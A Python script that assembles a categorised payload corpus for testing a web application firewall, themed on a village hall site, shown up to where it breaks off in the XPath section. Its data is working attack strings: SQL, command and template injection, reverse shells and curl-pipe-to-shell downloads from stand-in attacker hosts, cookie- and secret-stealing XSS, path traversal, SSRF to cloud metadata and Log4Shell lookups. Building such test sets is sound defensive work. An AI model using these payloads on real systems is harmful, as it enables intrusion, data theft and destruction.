#!/usr/bin/env python3
"""Attack corpus for the villagehall held-out WAF test set (village hall committee)."""
import json
import os
import random

SEED = 29902
ROWS = []  # (category, class, value, literal?)


def lit(cat, cls, *vals):
    for v in vals:
        ROWS.append((cat, cls, v, True))


# ---------------------------------------------------------------- sqli
S = "sqli"
lit(S, "union",
    "yoga' UNION SELECT username, password_hash, NULL FROM committee_users-- -",
    "quiz night' union all select null,concat(email,':',phone),null,null from residents#",
    "0 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables WHERE table_schema=database()",
    "VH-2024-0117' UNION SELECT iban, sort_code, account_no FROM treasurer_bank_details -- ",
    "ceilidh')) union select 1,@@version,3,4-- x",
    "-1 UniOn SeLeCt key_safe_code,NULL FROM hall_settings LIMIT 1",
    "main hall'/**/UNION/**/SELECT/**/name,pin/**/FROM/**/keyholders--",
    "bingo' union select null,sqlite_version(),null--",
    "x' UNION SELECT sql,2,3 FROM sqlite_master WHERE type='table'--",
    "pilates%27%20UNION%20SELECT%20user%2Cpass%20FROM%20admins--%20",
    "1) union/*booking*/select password,2 from users where role=('admin",
    "Smith' union select column_name,null from information_schema.columns where table_name='hirers'-- ",
)
lit(S, "boolean-blind",
    "O'Brien' OR '1'='1",
    "d'arcy' or 1=1 -- ",
    "quiz' AND substring((select password from users limit 1),1,1)='a'--",
    "7 AND ASCII(SUBSTR((SELECT key_safe_code FROM settings),1,1))>52",
    "yoga' AND (SELECT COUNT(*) FROM committee_users)>3 AND 'x'='x",
    "Margaret' || (select case when (1=1) then 'a' else 'b' end) || '",
    "hall' oR 'a'<>'b' -- rota",
    "1 or true",
    "booking ref VH-0001' OR 2>1#",
    "treasurer' and length(database())=8 and '1'='1",
    "12 AND 1=(SELECT 1 FROM pg_user WHERE usename='postgres')",
    "fete' OR EXISTS(SELECT 1 FROM residents WHERE email LIKE 'a%')-- ",
)
lit(S, "time-blind",
    "quiz'; SELECT pg_sleep(7)--",
    "1 AND SLEEP(6)",
    "yoga' AND (SELECT 9 FROM (SELECT(SLEEP(5)))a)-- x",
    "ref'; WAITFOR DELAY '0:0:8'--",
    "ceilidh' AND IF(ascii(substring(user(),1,1))=114,sleep(4),0)#",
    "2 OR BENCHMARK(6000000,SHA1('hall'))",
    "x' || (select case when 1=1 then pg_sleep(5) else pg_sleep(0) end)::text || '",
    "bingo' and randomblob(900000000)-- ",
    "1);select dbms_pipe.receive_message('v',9) from dual--",
)
lit(S, "error-based",
    "1 AND extractvalue(1,concat(0x7e,(select password from users limit 1)))",
    "hall' AND updatexml(null,concat(0x3a,version()),null)-- -",
    "yoga' AND 1=CONVERT(int,(SELECT TOP 1 email FROM residents))--",
    "1 and cast((select string_agg(username||':'||pass,',') from users) as int)",
    "quiz' and (select 1 from(select count(*),concat(database(),floor(rand(0)*2))x from information_schema.tables group by x)y)-- ",
    "x' AND 1=ctxsys.drithsx.sn(1,(select user from dual))--",
)
lit(S, "stacked",
    "Kitchen hire'; DROP TABLE bookings;--",
    "yoga'; UPDATE committee_users SET role='admin' WHERE email='mallory@attacker.example';--",
    "1; INSERT INTO keyholders(name,phone) VALUES('mallory','0000');--",
    "quiz'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.14/x.ps1|iex';--",
    "ledger'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.7/p|sh';--",
    "notes'); DELETE FROM ledger WHERE amount>0; --",
    "1;ATTACH DATABASE '/var/www/hall/shell.php' AS s;CREATE TABLE s.p(x text);INSERT INTO s.p VALUES('<?php system($_GET[c]);?>');--",
    "ceilidh'; SELECT load_file('/etc/passwd') INTO OUTFILE '/var/www/html/p.txt'--",
)
lit(S, "order-by-injection",
    "date,(select case when (select substr(password,1,1) from users limit 1)='a' then date else name end)",
    "(CASE WHEN (SELECT 1 FROM users WHERE username='admin')=1 THEN amount ELSE id END)",
    "amount desc, (select sleep(5))",
    "3 desc limit 1 procedure analyse(extractvalue(1,concat(0x7e,version())),1)",
)
lit(S, "comment-evasion",
    "yoga'/*!50000UnIoN*//*!50000SeLeCt*/1,2,3-- -",
    "1/**/oR/**/1/**/=/**/1",
    "hall'%0aunion%0aselect%0auser,pass%0afrom%0ausers--%0a",
    "quiz'\tunion\tselect\tnull,pin\tfrom\tkeyholders#",
    "x'%09or%09'x'%3d'x",
    "admin'-- ",
    "committee@villagehall.example.org'#",
)
lit(S, "encoded",
    "bingo%2527%2520OR%25201%253D1--",
    "quiz%bf%27 or 1=1-- ",
    "yoga＇ ＯＲ １＝１－－",
    "%u0027%u0020or%u00201=1--",
    "1 AND 0x61646d696e=(SELECT username FROM users LIMIT 1)",
    "ceilidh' and char(97)||char(100)=(select substr(username,1,2) from users limit 1)--",
)
assert sum(1 for r in ROWS if r[0] == S) == 64, sum(1 for r in ROWS if r[0] == S)

# ---------------------------------------------------------------- xss
X = "xss"
lit(X, "script-tag",
    "Quiz night! <script>fetch('//attacker.example/c?'+document.cookie)</script>",
    "Lovely evening <ScRiPt src=//203.0.113.9/h.js></sCrIpT>",
    "Thank you all<script>new Image().src='https://attacker.example/l?k='+localStorage.token</script>",
    "</title><script>alert(document.domain)</script>",
    "Ceilidh tickets</textarea><script>location='//attacker.example/?'+document.cookie</script>",
    "<script>document.forms[0].action='https://attacker.example/steal'</script>",
    "Roof fund<script\n>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94Jyk='))</script\n>",
    "<script type=\"text/javascript\">var i=new XMLHttpRequest();i.open('GET','/admin/export.csv');i.onload=function(){navigator.sendBeacon('//attacker.example',i.responseText)};i.send()</script>",
)
lit(X, "event-handler",
    "Jumble sale <img src=x onerror=alert(1)>",
    "<img src=1 oNeRrOr=\"fetch('https://attacker.example/?c='+document.cookie)\">",
    "Harvest supper <svg onload=alert`hall`>",
    "<body onload=document.location='//attacker.example/'+document.cookie>",
    "<input autofocus onfocus=alert(document.cookie) value=\"Mrs Pryce\">",
    "<details open ontoggle=confirm(1)>noise complaint</details>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "<div style=\"width:1000px;height:1000px\" onmouseover=\"alert('rota')\">Week 12</div>",
    "<marquee onstart=alert(1)>Bingo!</marquee>",
    "<audio src=x onerror=eval(name)>",
    "<select autofocus onfocus=alert(1)><option>Main hall</option></select>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(parent.document.cookie)&gt;\"></iframe>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x:x onerror=import('//attacker.example/m.js')>",
    "Kitchen<img/src/onerror=alert(1)>",
    "<a onpointerenter=alert(1)>hover for the rota</a>",
    "<object data=x onerror=alert(1)>",
    "<form><button formaction=javascript:alert(1)>Book now</button></form>",
)
lit(X, "attribute-breakout",
    "\" onmouseover=\"alert(1)",
    "Mill Lane\" autofocus onfocus=\"fetch('//attacker.example/'+document.cookie)\" x=\"",
    "' onclick='alert(document.domain)' data-x='",
    "yoga\"><svg/onload=alert(1)>",
    "x\" style=\"position:fixed;inset:0\" onmouseover=\"location='//attacker.example'",
    "Tom' accesskey='x' onclick='alert(1)",
    "\"><img src=x onerror=prompt(1)><\"",
)
lit(X, "js-context",
    "';alert(document.cookie);//",
    "\";fetch('//attacker.example/?d='+document.cookie);//",
    "</script><script>alert(1)</script>",
    "Quiz\\';alert(1);//",
    "${alert(document.domain)}",
    "'-alert(1)-'",
    "\\u0027);alert(1);//",
)
lit(X, "url-scheme",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=\"jav&#x09;ascript:alert(1)\">Book the hall</a>",
    "<iframe src=\"javascript:alert(`rota`)\"></iframe>",
    " javascript://villagehall%0aalert(1)",
)
lit(X, "encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "＜script＞alert(1)＜/script＞",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
)
lit(X, "markup-other",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<base href=\"https://attacker.example/\">",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><script href=data:,alert(1) />",
    "<embed src=\"//attacker.example/x.swf\">",
    "[Click for tickets](javascript:alert(document.cookie))",
    "{{constructor.constructor('alert(1)')()}}",
)
assert sum(1 for r in ROWS if r[0] == X) == 66, sum(1 for r in ROWS if r[0] == X)

# ---------------------------------------------------------------- cmdi
C = "cmdi"
lit(C, "separator",
    "roof-photos.jpg; cat /etc/passwd",
    "minutes_2024.pdf && id",
    "ledger.csv | nc 203.0.113.5 4444 -e /bin/sh",
    "fire_log.xlsx; curl -s http://attacker.example/x.sh | bash",
    "quiz.png;wget -qO- 198.51.100.23/k|sh",
    "agm.docx || ping -c 5 198.51.100.1",
    "poster.jpg\nid",
    "report.pdf\r\nwhoami",
    "receipt.png & type C:\\Windows\\win.ini",
    "rota.xlsx & powershell -nop -w hidden -c \"iex(iwr http://203.0.113.7/a.ps1)\"",
    "photo.jpg;rm -rf /var/www/hall/uploads",
    "scan.pdf; echo 'ssh-ed25519 AAAAC3NzaFAKEKEY mallory' >> ~/.ssh/authorized_keys",
    "minutes.pdf %0a cat /etc/shadow",
    "invoice.pdf; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.8\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "ceilidh.png | bash -i >& /dev/tcp/198.51.100.9/443 0>&1",
    "hall.jpg;php -r '$s=fsockopen(\"203.0.113.44\",80);exec(\"sh <&3 >&3 2>&3\");'",
    "newsletter.html; crontab -l | { cat; echo '* * * * * curl attacker.example/b|sh'; } | crontab -",
    "a.pdf; env | curl -X POST --data-binary @- https://attacker.example/env",
)
lit(C, "substitution",
    "Quiz night `id`",
    "$(curl http://attacker.example/$(whoami))",
    "poster-$(sleep 9).png",
    "Main hall `cat /etc/hostname`",
    "ledger_$(cat /var/www/hall/.env | base64 -w0).csv",
    "`nslookup $(whoami).attacker.example`",
    "rota $(uname -a > /var/www/html/u.txt)",
    "$(printf 'Y2F0IC9ldGMvcGFzc3dk'|base64 -d|sh)",
    "name=\"$(id)\"",
    "agm<$(reboot)>.pdf",
    "photo.jpg`wget -O /tmp/.x 198.51.100.2/x;chmod +x /tmp/.x;/tmp/.x`",
)
lit(C, "evasion",
    "minutes.pdf;c''at /e\"t\"c/pa''ss\"wd",
    "x;cat${IFS}/etc/passwd",
    "ledger.csv;{cat,/etc/passwd}",
    "a.png;/???/c?t /???/p??s??",
    "poster;w\\h\\o\\a\\m\\i",
    "roof.jpg;$'\\x63\\x61\\x74' /etc/passwd",
    "rota;X=$'\\x20';cat${X}/etc/passwd",
    "scan.pdf;ca$@t /etc/pas$()swd",
    "x|$(echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3J8c2g=|base64${IFS}-d)",
    "hall.jpg%3Bid",
    "hall.jpg%253Bcat%2520%252Fetc%252Fpasswd",
    "a;$0 -c 'id'",
    "notes.txt;${PATH:0:1}bin${PATH:0:1}sh -c id",
    "a.jpg;tac</etc/passwd",
    "x;IFS=,;`cat<<<uname,-a`",
)
lit(C, "argument-injection",
    "--output=/var/www/html/shell.php http://attacker.example/shell.txt",
    "-o ProxyCommand=\"sh -c 'curl attacker.example/p|sh'\" backup@hall",
    "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec sh -c 'id > /tmp/o' ;",
    "--post-file=/etc/passwd http://203.0.113.3/",
    "-F 'file=@/var/www/hall/config.php' https://attacker.example/up",
    "'-oProxyCommand=curl$IFS`whoami`.attacker.example'",
)
lit(C, "windows",
    "minutes.docx | whoami /all",
    "rota.xlsx & certutil -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "ledger.csv && net user mallory P4ss!fake /add",
    "x & set /p=<C:\\inetpub\\wwwroot\\web.config",
    "poster.png|powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
    "a.pdf & c^m^d /c di^r C:\\",
    "hall.jpg & cmd /v:on /c \"set x=who&&set y=ami&&!x!!y!\"",
    "photo.jpg | mshta http://attacker.example/h.hta",
    "agm.pdf & rundll32 \\\\203.0.113.12\\share\\p.dll,Start",
)
assert sum(1 for r in ROWS if r[0] == C) == 60, sum(1 for r in ROWS if r[0] == C)

# ---------------------------------------------------------------- traversal
T = "traversal"
lit(T, "dotdot",
    "../../../../etc/passwd",
    "../../../var/www/hall/.env",
    "photos/../../../../root/.ssh/id_rsa",
    "minutes/2024/../../../../../etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
    "uploads/../config/database.yml",
    "../../../../proc/self/environ",
    "../../../../../proc/self/cmdline",
    "rota-2024.xlsx/../../../../etc/hosts",
    "../../../../var/log/nginx/access.log",
    "/var/www/hall/uploads/../../../../etc/passwd",
    "../../../../home/treasurer/.bash_history",
    "../../app/settings.py",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%5c..%5c..%5cboot.ini",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2fwww%2fhall%2f.env",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    "．．／．．／．．／etc／passwd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "../../../../etc/passwd%00.pdf",
    "../../../../var/www/hall/config.php\\u0000.jpg",
    "minutes.pdf/..;/..;/..;/etc/passwd",
    "/..%5c..%5c..%5c/etc/passwd",
    "..//..//..//..//etc//passwd",
    ".%2e/.%2e/.%2e/.%2e/etc/group",
)
lit(T, "absolute-or-wrapper",
    "/etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=../config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "\\\\203.0.113.20\\share\\ledger.csv",
    "/proc/self/fd/3",
    "zip://uploads/poster.jpg%23shell.php",
    "/var/www/hall/storage/../.git/config",
    "phar://uploads/minutes.jpg/x",
)
assert sum(1 for r in ROWS if r[0] == T) == 45, sum(1 for r in ROWS if r[0] == T)

# ---------------------------------------------------------------- ssrf
F = "ssrf"
lit(F, "cloud-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254.nip.io/latest/meta-data/",
)
lit(F, "loopback-internal",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/admin/users/export",
    "http://localhost/server-status",
    "https://127.0.0.1:2375/containers/json",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:8500/v1/agent/self",
    "http://internal-db:5432/",
    "http://localhost:15672/api/users",
    "http://127.0.0.1:11211/stats",
    "http://0.0.0.0:3000/debug/vars",
    "https://villagehall-admin.internal/config",
    "http://[::1]:8080/actuator/env",
    "http://[::ffff:127.0.0.1]/admin",
    "http://[0:0:0:0:0:ffff:7f00:1]:80/",
)
lit(F, "ip-obfuscation",
    "http://2130706433/admin",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://017700000001:8080/",
    "http://127.1/admin",
    "http://0/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.000.000.001:6379/",
    "http://0x7f.1/",
)
lit(F, "parser-confusion",
    "https://villagehall.example.org@127.0.0.1/admin",
    "http://attacker.example#@villagehall.example.org/",
    "http://127.0.0.1\\@villagehall.example.org/",
    "http://localtest.attacker.example/admin",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://villagehall.example.org.attacker.example/",
    "http://127.0.0.1%2523@villagehall.example.org/",
    "http://1.1.1.1 &@2.2.2.2# @127.0.0.1/",
)
lit(F, "scheme",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cm%40attacker.example%3E",
    "dict://127.0.0.1:11211/stats",
    "file:///var/www/hall/.env",
    "ldap://127.0.0.1:389/%0astats",
    "tftp://198.51.100.30/boot.img",
)
assert sum(1 for r in ROWS if r[0] == F) == 50, sum(1 for r in ROWS if r[0] == F)

# ---------------------------------------------------------------- code
K = "code"
lit(K, "ssti",
    "Dear {{ config.items() }}, your booking is confirmed",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /var/www/hall/.env').read() }}",
    "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "Hi {{ lipsum.__globals__['os'].popen('curl attacker.example/s|sh').read() }}",
    "{{ namespace.__init__.__globals__.os.system('id') }}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('whoami'))$x",
    "{{ '/etc/passwd'|file_excerpt(1,30) }}",
    "{{ ['id']|filter('system') }}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{php}echo `id`;{/php}",
    "{system('cat /etc/passwd')}",
    "<%= `ls /var/www/hall` %>",
    "<%= File.read('/etc/passwd') %>",
    "#{7*7}#{'a'.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "{{#with \"s\" as |string|}}{{#with string.constructor}}{{this.call}}{{/with}}{{/with}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
)
lit(K, "expression-language",
    "${applicationScope}",
    "#{session.setAttribute('role','admin')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${''.getClass().forName('java.lang.System').getenv()}",
    "#{T(java.lang.System).getenv('DB_PASSWORD')}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
)
lit(K, "eval",
    "__import__('os').system('id')",
    "require('child_process').execSync('cat /etc/passwd').toString()",
    "process.mainModule.require('child_process').exec('curl attacker.example|sh')",
    "1;system('id');#",
    "phpinfo();//",
    "'.system('id').'",
    "\";eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));//",
    "<?php system($_GET['c']); ?>",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "Function('return this')().process.exit()",
    "`${require('fs').readFileSync('/etc/passwd')}`",
    "exec(\"__import__('subprocess').getoutput('whoami')\")",
)
lit(K, "log4shell",
    "Quiz night ${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://203.0.113.50/o}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.8/e}",
    "Mrs ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/h}",
    "${jndi:ldaps://x.attacker.example/${sys:user.name}}",
)
lit(K, "prototype-pollution",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"treasurer\"}}}",
    "__proto__[isCommitteeMember]=true",
    "constructor[prototype][shell]=/bin/sh",
    "{\"booking\":{\"room\":\"main\",\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}}",
    "settings.__proto__.NODE_OPTIONS=--require /proc/self/environ",
)
lit(K, "csv-formula",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Click for receipt\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C powershell iwr attacker.example/p|iex'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1,1)*cmd|'/c calc'!A1",
    "=WEBSERVICE(\"https://attacker.example/leak?\"&ENCODEURL(C2:C40))",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2),\"//a\")",
    "2024-08-01,Donation,\"=HYPERLINK(\"\"http://198.51.100.2/\"\"&B5,\"\"refund\"\")\",10.00,,Bank",
    "\tDDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=IMPORTDATA(\"https://attacker.example/c?\"&A1:A99)",
)
lit(K, "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><booking><room>&x;</room></booking>",
    "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><r/>",
    "<?xml version=\"1.0\"?><!DOCTYPE ledger [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><ledger>&e;</ledger>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><x>&c;</x>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE minutes SYSTEM \"http://203.0.113.60/m.dtd\"><minutes>x</minutes>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/hall/.env\">]><text>&f;</text></svg>",
)
lit(K, "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:4:\"cmd\";s:2:\"id\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "cos\nsystem\n(S'id'\ntR.",
    "!!python/object/apply:os.system ['curl attacker.example/y|sh']",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "<java.beans.XMLDecoder><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java.beans.XMLDecoder>",
)
assert sum(1 for r in ROWS if r[0] == K) == 82, sum(1 for r in ROWS if r[0] == K)

# ---------------------------------------------------------------- nosqli
N = "nosqli"
lit(N, "operator-injection",
    "{\"email\":{\"$ne\":null},\"password\":{\"$ne\":null}}",
    "{\"username\":\"chair\",\"password\":{\"$gt\":\"\"}}",
    "password[$ne]=x",
    "username[$regex]=^adm&password[$ne]=1",
    "{\"room\":\"main\",\"$or\":[{},{\"a\":\"a\"}]}",
    "{\"key_code\":{\"$regex\":\"^4\"}}",
    "email[$exists]=true",
    "{\"$where\":\"sleep(5000)||true\"}",
    "{\"name\":{\"$in\":[\"admin\",\"treasurer\",\"chair\"]},\"pin\":{\"$nin\":[]}}",
    "booking_ref[$gte]=",
    "{\"amount\":{\"$expr\":{\"$gt\":[\"$amount\",0]}}}",
    "{\"$lookup\":{\"from\":\"users\",\"localField\":\"x\",\"foreignField\":\"x\",\"as\":\"u\"}}",
)
lit(N, "js-injection",
    "'; return true; var x='",
    "chair' || '1'=='1",
    "'; while(true){}; '",
    "\"; return this.password.match(/^a/) && \"",
    "1; db.users.drop()",
    "this.role=='admin' || sleep(3000)",
    "function(){return this.iban != null}",
)
lit(N, "other-stores",
    "{\"selector\":{\"_id\":{\"$gt\":null}}}",
    "\\\"})\\n.union(db.keyholders.find({}))//",
    "quiz\r\nFLUSHALL\r\n",
    "n=\"x\") OR 1=1 WITH n MATCH (u:User) RETURN u.password //",
    "' OR 1=1 OR n.name='",
    "{\"query\":{\"script\":{\"script\":\"java.lang.Runtime.getRuntime().exec('id')\"}}}",
    "g.V().has('email').values('password')",
    "{\"size\":1000,\"query\":{\"match_all\":{}}}",
)
assert sum(1 for r in ROWS if r[0] == N) == 27, sum(1 for r in ROWS if r[0] == N)

# ---------------------------------------------------------------- crlf
L = "crlf"
lit(L, "log-forging",
    "Quiz night\n2024-06-01 10:02:11 INFO admin login OK user=chair ip=127.0.0.1",
    "yoga\r\n[2024-06-01T10:00:00Z] AUDIT deposit refund approved by treasurer amount=250.00",
    "Margaret%0a2024-06-01 INFO keyholder rota updated by admin",
    "booking ok%0d%0aWARN key safe code reset requested by chair",
    "Mill Lane\n\n=== LOG ROTATED ===\nINFO user=mallory role=admin",
    "roof%E5%98%8A%E5%98%8DINFO payment confirmed",
    "Siân\u2028INFO: new committee member mallory added",
    "x%0d%0a127.0.0.1 - - [01/Jun/2024:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512",
)
lit(L, "header-injection",
    "en-GB%0d%0aSet-Cookie: session=attacker_fixed_id; Path=/",
    "/bookings%0d%0aLocation: https://attacker.example/login",
    "main-hall\r\nX-Forwarded-For: 127.0.0.1",
    "redirect=/calendar%0D%0AContent-Security-Policy:%20script-src%20*",
    "lang=fr\r\nSet-Cookie: role=admin",
    "%0d%0aAccess-Control-Allow-Origin: https://attacker.example",
    "/events%c4%8d%c4%8aSet-Cookie:%20a=b",
    "minutes.pdf\"%0d%0aContent-Type: text/html",
)
lit(L, "response-splitting",
    "/calendar%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "en\r\n\r\n<html><body>Your hall booking failed, log in again at https://attacker.example</body></html>",
    "%0d%0a%0d%0a<svg onload=alert(document.domain)>",
    "/rota%0D%0A%0D%0AHTTP/1.1 302 Found%0D%0ALocation: //attacker.example/",
)
lit(L, "mail-header-injection",
    "jean@villagehall.example.org\r\nBcc: all-residents@attacker.example",
    "Kat <kat@example.org>%0ACc: victims@attacker.example",
    "Booking query\nBcc: list@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>Pay deposit here</a>",
    "mrs.pryce@example.org%0d%0aReply-To: treasurer@attacker.example",
    "Re: deposit\r\nSubject: URGENT bank details changed\r\nX-Priority: 1",
    "tom@example.org\nTo: everyone@villagehall.example.org",
)
lit(L, "csv-row-injection",
    "Hire income\n2024-06-30,Refund,Mallory,,2500.00,BACS",
    "\"Smith, J\",100.00\r\n2024-07-01,Transfer,attacker,,9999.00,Bank",
    "Bar takings\",412.50\n=HYPERLINK(\"https://attacker.example\"),",
    "Donation;50,00\n2024-08-01;Refund;;1500,00;",
)
assert sum(1 for r in ROWS if r[0] == L) == 30, sum(1 for r in ROWS if r[0] == L)

# ---------------------------------------------------------------- ldap-xpath
D = "ldap-xpath"
lit(D, "ldap",
    "*)(uid=*))(|(uid=*",
    "chair)(|(objectClass=*)",
    "admin*)((|userPassword=*)",
    "*)(memberOf=cn=committee,ou=groups,dc=villagehall,dc=org)(cn=*",
    "margaret)(userPassword=a*",
    "*))%00",
    "x*)(|(mail=*@*))",
    "keyholder)(&(objectClass=person)(telephoneNumber=*))(cn=",
    "\\2a)(uid=\\2a",
    "*)(!(cn=nobody)",
)
lit(D, "xpath",
    "' or '1'='1",
    "x' or name()='user' or 'x'='y",
